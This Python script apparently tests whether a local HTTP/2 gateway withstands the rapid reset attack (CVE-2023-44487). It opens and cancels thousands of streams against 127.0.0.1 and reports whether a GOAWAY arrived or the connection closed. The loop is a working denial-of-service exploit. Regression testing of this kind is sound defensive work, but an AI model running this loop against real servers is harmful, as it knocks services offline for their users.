"""The rapid reset attack (CVE-2023-44487) against the gateway over h2 with a client certificate: opens streams
and resets each at once (HEADERS, then RST_STREAM CANCEL), in a loop, up to --streams. Prints one JSON object:
how many streams it reset before the connection ended, whether a GOAWAY came and with which error code, and
whether the connection was closed."""
import argparse
import json
import socket
import ssl

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--streams", type=int, default=5000)
    args = parser.parse_args()

    context = ssl.create_default_context(cafile=args.ca)
    context.check_hostname = False
    context.load_cert_chain(args.cert, args.key)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection(("127.0.0.1", args.port), timeout=10), server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    result = {"reset": 0, "goaway": None, "closed": False}
    headers = [(":method", "GET"), (":path", "/reset"), (":scheme", "https"), (":authority", "localhost")]
    sock.settimeout(0.0)
    try:
        for _ in range(args.streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers, end_stream=True)
            conn.reset_stream(stream, error_code=8)  # CANCEL
            result["reset"] += 1
            sock.sendall(conn.data_to_send())
            try:
                data = sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            if not data:
                result["closed"] = True
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result["goaway"] = event.error_code
            sock.sendall(conn.data_to_send())
    except (ConnectionError, ssl.SSLError, OSError, h2.exceptions.ProtocolError):
        result["closed"] = True
    # Whatever is left: the GOAWAY and the close.
    sock.settimeout(5)
    try:
        while not result["closed"]:
            data = sock.recv(65536)
            if not data:
                result["closed"] = True
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result["goaway"] = event.error_code
    except (ConnectionError, ssl.SSLError, OSError, h2.exceptions.ProtocolError):
        result["closed"] = True
    if result["goaway"] is not None:
        result["goaway"] = int(result["goaway"])
    print(json.dumps(result))


if __name__ == "__main__":
    main()
